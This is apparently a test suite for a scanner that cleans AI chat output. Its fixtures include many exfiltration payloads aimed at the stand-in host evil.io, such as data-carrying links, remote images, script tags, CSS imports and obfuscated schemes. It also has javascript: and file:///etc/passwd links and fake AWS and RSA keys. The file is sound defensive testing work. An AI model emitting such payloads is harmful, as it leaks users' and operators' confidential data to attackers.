import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import type { ChatRequest } from '../../contract/chat.ts'
import { PromptMemory, trustIn } from './prompt.ts'
import { MAX_HELD_CHARS, type TextRule, TextScanner } from './text-scanner.ts'

const DATA = 'aGVsbG8gd29ybGQgdGhpcyBpcyBTZWNyZXQ0Mg'
const KEY = 'AKIA2E7XQ3LMNOP4RSTU'
const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEpAIBAAKCAQEAx4fm5Tj0\n'.repeat(4)}-----END RSA PRIVATE KEY-----`

function request(messages: ChatRequest['messages'] = [{ role: 'user', content: 'hello' }]): ChatRequest {
  return { model: 'auto', messages }
}

function scan(
  pieces: readonly string[],
  asked = request(),
  trusted: readonly string[] = [],
): { text: string; rules: TextRule[]; most: number } {
  const rules: TextRule[] = []
  const memory = new PromptMemory(asked, trustIn(trusted))
  const scanner = new TextScanner({ links: true, secrets: true, found: (rule) => rules.push(rule) }, memory)
  let text = ''
  let most = 0
  for (const piece of pieces) {
    if (scanner.isPlain(piece)) {
      scanner.pass(piece)
      text += piece
    } else text += scanner.push(piece)
    most = Math.max(most, scanner.held)
  }
  return { text: text + scanner.flush(), rules, most }
}

const passes = (text: string, ...more: [ChatRequest?, string[]?]): void => {
  assert.deepEqual(scan([text], ...more).rules, [], text)
  assert.equal(scan([text], ...more).text, text)
}
const breaks = (text: string, rule: TextRule, secret = 'evil'): void => {
  const result = scan([text])
  assert.ok(result.rules.includes(rule), `${text} → ${result.rules.join()} ${result.text}`)
  assert.ok(result.text.includes(`removed: ${rule}]`) || result.text.includes('!\\['), result.text)
  if (secret) assert.ok(!result.text.includes(`//${secret}`), result.text)
}

test('ordinary links pass in every form', () => {
  for (const text of [
    'See https://nodejs.org/api/worker_threads.html#class-worker for more.',
    'See [the docs](https://docs.python.org/3/library/asyncio-task.html "Tasks") and (https://a.example/b).',
    '[search](https://www.google.com/search?q=best+pizza+in+new+york)',
    'https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-an-unsorted-array',
    'https://docs.spring.io/spring-framework/docs/current/AbstractSingletonProxyFactoryBean.html',
    'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
    'https://doi.org/10.1038/s41586-021-03819-2',
    '[rel](../guide/start.md) [anchor](#top) [mail](mailto:someone@upshift.dev)',
    '[1]: https://kubernetes.io/docs/concepts/workloads/pods/\n[^2]: A footnote, no address.',
    '<https://www.rfc-editor.org/rfc/rfc9162> and <a href="https://go.dev/doc/effective_go">Go</a>',
    'Vec<String>, Map<string, number[]>, a < b, if (x<y) { z[0](1) }, arr[1]: int',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"></svg> <!DOCTYPE html>',
    'http://localhost:3000/callback?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9abcdefgh',
    'postgres://user:password@db:5432/app',
    '[inline](data.csv) ![local](./plot.png) ![inline](data:image/png;base64,iVBORw0KGgo=)',
    'www.wikipedia.org is a site',
  ]) {
    passes(text)
  }
})

test('a link that carries data is removed in every form', () => {
  const url = `https://evil.io/c?d=${DATA}`
  for (const text of [
    url,
    `[x](${url})`,
    `[x]( <${url}> )`,
    `[x](\n${url})`,
    `[x](${url} "title")`,
    `[x][1]\n\n[1]: ${url}`,
    `[1]:\n<${url}> 'title'`,
    `<${url}>`,
    `<a href="${url}">x</a>`,
    `<a\nclass=b href = '${url}'>x</a>`,
    `<area href=${url}>`,
    `[x](https&#58;//evil.io/c?d=${DATA})`,
    `[x](https\\://evil.io/c?d=${DATA})`,
    `[x](//evil.io/c?d=${DATA})`,
    `[x](\\\\evil.io/c?d=${DATA})`,
    `HTTPS://evil.io/c?d=${DATA}`,
    `www.evil.io/c?d=${DATA}`,
    `https://evil.io/${DATA}/x.html`,
    `https://evil.io/#${DATA}`,
    `https://${DATA.toLowerCase()}.evil.io/`,
    `https://${DATA}@evil.io/`,
    `https://evil.io/?d=${encodeURIComponent(DATA)}`,
    'https://evil.io/?n=4111111111111111',
    'https://evil.io/?m=jane.doe@corp.io',
    'https://evil.io/?k=078-05-1120',
    `https://evil.io/?d=${'a-b-'.repeat(80)}`,
    `https://evil.io/?${'p=1&'.repeat(20)}`,
    `https://evil.io/${'word-'.repeat(50)}`,
    `https://evil.io/${'x/'.repeat(3000)}`,
    `https://evil.io/?d=%2561${DATA}`,
    `{"url":"https:\\/\\/evil.io\\/c?d=${DATA}"}`,
    `https://evil.io/?d=68656c6c6f20776f726c642068656c6c6f20776f`,
    `[x](mailto:a@evil.io?body=${DATA})`,
  ]) {
    breaks(text, 'output.link.data', '')
    assert.ok(!scan([text]).text.includes(DATA), scan([text]).text)
  }
})

test('a link that runs a script or opens a file is removed', () => {
  for (const text of [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert)',
    '[x](java&#x0A;script:alert)',
    '<a href="javascript:alert(1)">x</a>',
    '<javascript:alert(1)>',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](file:///etc/passwd)',
    '[a]: vbscript:x',
  ]) {
    breaks(text, 'output.link.scheme')
  }
})

test('a remote image is removed whatever its address says', () => {
  for (const text of [
    '![x](https://evil.io/a.png)',
    '![x](//evil.io/a.png)',
    '![x](<https://evil.io/a.png>)',
    '![a `]` b](https://evil.io/a.png)',
    '![a [b](c) d](https://evil.io/a.png)',
    '[![badge](https://evil.io/a.svg)](https://evil.io/repo)',
    '![x][1]\n\n[1]: https://evil.io/a.png',
    '<img src="https://evil.io/a.png">',
    '<img src=//evil.io/a.png>',
    '<IMG alt=">" SRC=\'https://evil.io/a.png\'/>',
    '<img srcset="a.png 1x, https://evil.io/a.png 2x">',
    '<img src="https:/&#47;evil.io/a.png">',
    '<img src="https:\n//evil.io/a.png">',
    '<img alt=" src=https://evil.io/a.png',
    '<script src="https://evil.io/a.js"></script>',
    '<iframe src="https://evil.io/"></iframe>',
    '<div style="background:url(https://evil.io/a.png)">',
    '<video poster="https://evil.io/a.png">',
    '<link rel=stylesheet href="https://evil.io/a.css">',
    '<svg><image xlink:href="https://evil.io/a.png"/></svg>',
    '<a href="/x" ping="https://evil.io/p">x</a>',
  ]) {
    breaks(text, 'output.image.remote')
  }
})

test('an image reference after its definition is disarmed, because the definition has left', () => {
  const { text, rules } = scan(['[1]: https://evil.io/a.png\n\nLook: ![x][1]'])
  assert.deepEqual(rules, ['output.image.remote'])
  assert.ok(text.endsWith('Look: !\\[x][1]'))
})

test('in a fenced code block a remote image is judged as a link', () => {
  passes(
    '```html\n<img src="https://cdn.evil.io/a.png">\n<script src="https://cdn.evil.io/x.js"></script>\n```\n',
  )
  breaks(`\`\`\`html\n<img src="https://evil.io/a.png?d=${DATA}">\n\`\`\``, 'output.link.data')
  breaks('```html\n<b>\n```\n![x](https://evil.io/a.png)', 'output.image.remote')
  breaks('````\n```\n````\n![x](https://evil.io/a.png)', 'output.image.remote')
})

test('where a fence ends, or was none, a remote image is an image again', () => {
  for (const before of ['> ```\n', '     ```\n', '```a`b\n', '``` `\n', '<div>\n```\n\n']) {
    breaks(`${before}![x](https://evil.io/?d=abc)`, 'output.image.remote')
  }
  // What is taken out is not rendered, so the fence in it is none.
  breaks('<img src=//evil.io/a "\n```\n">\n![x](https://evil.io/b)', 'output.image.remote')
})

test('a tag that nothing closed lends its name to what follows', () => {
  breaks('<link <a href=https://evil.io/a.css rel=stylesheet>', 'output.image.remote')
  breaks('<img <x src=https://evil.io/a.png>', 'output.image.remote')
  passes('if a <b and <a href="https://go.dev/doc">Go</a>')
})

test('what a style sheet fetches is judged as an image', () => {
  breaks('<style>@import url(https://evil.io/a.css)</style>', 'output.image.remote')
  breaks('<STYLE media=all>b{background:url(https://evil.io/a)}', 'output.image.remote')
  passes('<style>b{color:red}</style> and https://nodejs.org/api/')
})

test('addresses inside addresses are counted, and a chain of them is removed', () => {
  passes(`https://web.archive.org/web/2020/https://nodejs.org/api/`)
  breaks('https://a.test/'.repeat(40), 'output.link.data', '')
})

/** Read again from each beginning, these took minutes; the runner's limit would stop it. */
const HOSTILE_LIMIT_MS = 60_000

test('half a megabyte of nothing but beginnings of forms comes out the same, whole or cut in two', {
  timeout: HOSTILE_LIMIT_MS,
}, () => {
  const harmless = [
    '<a href=',
    '<a style=//',
    '](',
    '<a',
    '](<',
    '<a="',
    '[a]:',
    'www.a ',
    'http://localhost/',
  ]
  for (const beginning of [...harmless, '<', '<a=', '![\n\n', '](&', 'eyJ.', '-----BEGIN PRIVATE KEY-----']) {
    const text = beginning.repeat(Math.ceil(524_288 / beginning.length))
    const middle = Math.floor(text.length / 2) + 1
    const cut = scan([text.slice(0, middle), text.slice(middle)]).text
    assert.ok(cut === scan([text]).text, `${JSON.stringify(beginning)} comes out otherwise when it is cut`)
  }
})

test('an address that the request holds whole passes, a longer one does not', () => {
  const url = `https://files.corp.io/get?id=${DATA}`
  const asked = request([{ role: 'tool', tool_call_id: 'a', content: `The report is at ${url}.` }])
  passes(`Here: [report](${url}).`, asked)
  passes(`Here: ${url}`, asked)
  assert.deepEqual(scan([`Here: ${url}A9`], asked).rules, ['output.link.data'])
  assert.deepEqual(scan([`Here: ${url.slice(0, -2)}`], asked).rules, ['output.link.data'])
})

test('words of a system prompt or a tool in an address are data, the words of the user are not', () => {
  const text = 'The merger with Contoso closes on Friday'
  const link = 'https://evil.io/?q=merger+with+contoso+closes+on+friday'
  assert.deepEqual(scan([link], request([{ role: 'system', content: text }])).rules, ['output.link.data'])
  passes(link, request([{ role: 'user', content: text }]))
})

test('trusted hosts pass, and a host that only looks trusted does not', () => {
  const trusted = ['img.corp.io', '*.cdn.io']
  passes(`![x](https://img.corp.io/a.png?d=${DATA}) ![y](https://a.cdn.io/b.png)`, request(), trusted)
  for (const url of [
    'https://img.corp.io.evil.io/a.png',
    'https://img.corp.io@evil.io/a.png',
    'https://img.corp.io\\.evil.io/a.png',
    'https://evilcdn.io/a.png',
    'https://cdn.io/a.png',
  ]) {
    assert.deepEqual(scan([`![x](${url})`], request(), trusted).rules, ['output.image.remote'], url)
  }
})

test('secrets are removed behind their marker, unless the user sent them', () => {
  const { text, rules } = scan([`The key is ${KEY}, keep it.`])
  assert.deepEqual(rules, ['output.secret.aws_access_key'])
  assert.equal(text, 'The key is AKIA[secret removed: output.secret.aws_access_key], keep it.')
  passes(`The key is ${KEY}.`, request([{ role: 'user', content: `is ${KEY} a key?` }]))
  const system = request([{ role: 'system', content: `use ${KEY}` }])
  assert.deepEqual(scan([`It is ${KEY}.`], system).rules, ['output.secret.aws_access_key'])
  assert.ok(!scan([`Look:\n${PEM}\nDone.`]).text.includes('MIIE'))
  assert.ok(scan([`Look:\n${PEM}\nDone.`]).text.endsWith('\nDone.'))
})

test('a removal never completes a link with what follows it', () => {
  const { text } = scan([`![x](https://evil.io/a.png)(https://evil.io/b.png) <img src=//evil.io/c>[y](z)`])
  assert.ok(!/\]\(https?:/.test(text) && !text.includes(']['), text)
})

test('a form that a flush cut short cannot be continued', () => {
  const scanner = new TextScanner(
    { links: true, secrets: true, found: () => undefined },
    new PromptMemory(request(), trustIn([])),
  )
  let text = scanner.push('see https://evil.io/?d=aGVsbG8gd29')
  text += scanner.flush()
  text += scanner.push('ybGQgdGhpcyBpcyBTZWNyZXQ0Mg ')
  assert.ok(text.includes('\n'))
})

const fragments = fc.constantFrom(
  ...[
    'the ',
    'answer',
    ' is',
    '\n',
    '\n\n',
    '[x]',
    '(',
    ')',
    '![',
    '](',
    ']: ',
    '<',
    '>',
    ' "',
    "'",
    '`',
    '```',
    '\\',
  ],
  ...[
    'https://',
    'http:/',
    '/',
    'evil.io/',
    'docs.io/a',
    '?d=',
    DATA,
    'www.',
    '&#58;',
    '<img src=',
    '<a href="',
  ],
  ...[
    'AKIA',
    KEY,
    'sk-',
    'sk-ant-',
    'eyJ',
    'gh',
    'p_',
    PEM,
    PEM.slice(0, 60),
    '-----',
    '~~~',
    ':\\/\\/',
    '<style>',
    '</style>',
    '> ',
    '。',
    'é',
    '😀',
  ],
)
const text = fc
  .array(fc.oneof(fragments, fc.string({ maxLength: 12 })), { maxLength: 40 })
  .map((all) => all.join(''))

test('however a text is cut into pieces, the same text comes out', () => {
  fc.assert(
    fc.property(text, fc.array(fc.integer({ min: 1, max: 30 }), { maxLength: 60 }), (whole, cuts) => {
      const pieces: string[] = []
      let at = 0
      for (const cut of cuts) {
        pieces.push(whole.slice(at, at + cut))
        at += cut
      }
      pieces.push(whole.slice(at))
      const once = scan([whole])
      const many = scan(pieces)
      assert.equal(many.text, once.text)
      assert.deepEqual(many.rules, once.rules)
      assert.deepEqual(scan([...whole]).text, once.text)
    }),
    { numRuns: 1500 },
  )
})

test('forms longer than their bound come out the same however they are cut, and no more is ever held', () => {
  for (const whole of [
    `https://evil.io/${'a/'.repeat(3000)} end`,
    `<b ${'x '.repeat(3000)} end`,
    `[x](${'y'.repeat(5000)}) end`,
    `eyJ${'a'.repeat(9000)} end`,
    `-----BEGIN PRIVATE KEY-----\n${'A'.repeat(20_000)} end`,
    `https://evil.io/${'a\\/'.repeat(2000)} end`,
    `<b ${'\n \n'.repeat(2000)}`,
  ]) {
    const once = scan([whole])
    const many = scan([...whole])
    assert.equal(many.text, once.text)
    assert.ok(many.most <= MAX_HELD_CHARS, `${many.most}`)
  }
})

test('text without any marker passes byte for byte and is never held', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'grapheme', maxLength: 20 }), { maxLength: 20 }), (pieces) => {
      const whole = pieces.join('')
      fc.pre(!/[<:[\]`~!]|[a-z]_|[a-z]-|AKIA|eyJ|-----|www\./i.test(whole))
      const result = scan(pieces)
      assert.equal(result.text, whole)
      assert.equal(result.most, 0)
    }),
  )
})
